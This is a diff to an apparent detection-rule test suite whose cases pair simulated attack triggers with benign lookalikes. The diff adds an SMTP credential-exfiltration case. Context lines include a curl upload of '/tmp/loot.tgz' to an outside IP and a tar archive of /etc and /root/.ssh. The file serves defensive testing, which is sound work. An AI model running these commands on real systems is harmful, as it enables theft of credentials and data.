@@ -20,6 +20,7 @@ const mail = (s: Sim, dialogue: string): void => {
   s.connect(1, address, 25, -115);
   s.caughtMail(address, 25, dialogue);
 };
+const b64 = (s: string): string => Buffer.from(s).toString('base64');
 const http = (method: string, path: string, host: string, body = ''): string =>
   `${method} ${path} HTTP/1.1\r\nHost: ${host}\r\nUser-Agent: Mozilla/5.0\r\n${body ? `Content-Length: ${body.length}\r\n` : ''}\r\n${body}`;
 
@@ -165,6 +166,8 @@ export const CASES: RuleCase[] = [
     benign: (s) => web(s, 'telegram.org.example.test', 80, http('GET', '/api/status', 'telegram.org.example.test')) },
   { id: 'ST-C2-016', trigger: (s) => mail(s, 'EHLO bot\r\nMAIL FROM:<promo@shop.example.test>\r\nRCPT TO:<victim@example.test>\r\nDATA\r\nSubject: You won\r\n\r\nclick\r\n.\r\n'),
     benign: (s) => mail(s, 'EHLO bot\r\nQUIT\r\n') },
+  { id: 'ST-EXF-003', trigger: (s) => mail(s, `EHLO pc\r\nAUTH LOGIN\r\n${b64('logs@mail.example.test')}\r\n${b64('hunter2')}\r\nQUIT\r\n`),
+    benign: (s) => mail(s, 'EHLO pc\r\nAUTH CRAM-MD5\r\nMAIL FROM:<a@example.test>\r\nRCPT TO:<b@example.test>\r\nDATA\r\n\r\nhi\r\n.\r\n') },
   { id: 'ST-EXF-001', trigger: (s) => s.run('/usr/bin/curl', ['curl', '-T', '/tmp/loot.tgz', 'http://203.0.113.9/up']), benign: (s) => s.run('/usr/bin/curl', ['curl', '-o', 'x', 'http://203.0.113.9/x']) },
   // collection and impact
   { id: 'ST-COL-001', trigger: (s) => s.run('/usr/bin/tar', ['tar', 'czf', '/tmp/l.tgz', '/etc', '/root/.ssh']), benign: (s) => s.run('/usr/bin/tar', ['tar', 'czf', 'out.tgz', 'data']) },
